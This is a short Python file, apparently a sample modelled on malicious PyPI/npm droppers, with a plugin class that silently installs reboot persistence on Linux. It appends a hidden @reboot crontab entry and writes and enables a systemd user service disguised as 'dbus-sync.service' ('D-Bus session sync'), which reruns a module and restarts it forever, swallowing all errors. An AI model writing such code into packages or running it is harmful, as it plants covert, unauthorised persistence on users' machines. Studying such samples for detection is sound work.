# Inspired by Linux-targeting PyPI/npm droppers (e.g. 2023 reports of packages adding @reboot crontab lines and user systemd units): survive reboots two ways.
import subprocess
import sys
from pathlib import Path

_CMD = f"{sys.executable} -c 'import sample.agent' >/dev/null 2>&1"


def _cron():
    current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    if "sample.agent" in current:
        return
    line = "@reboot " + _CMD + "\n"
    subprocess.run(["crontab", "-"], input=current + line, text=True)


def _unit():
    unit_dir = Path.home().joinpath(".config", "systemd", "user")
    unit_dir.mkdir(parents=True, exist_ok=True)
    (unit_dir / "dbus-sync.service").write_text(
        "[Unit]\nDescription=D-Bus session sync\n\n"
        "[Service]\nExecStart=" + _CMD + "\nRestart=always\n\n"
        "[Install]\nWantedBy=default.target\n"
    )
    subprocess.run(["systemctl", "--user", "enable", "--now", "dbus-sync.service"], capture_output=True)


class Plugin:
    def __init__(self):
        for step in (_cron, _unit):
            try:
                step()
            except Exception:
                continue
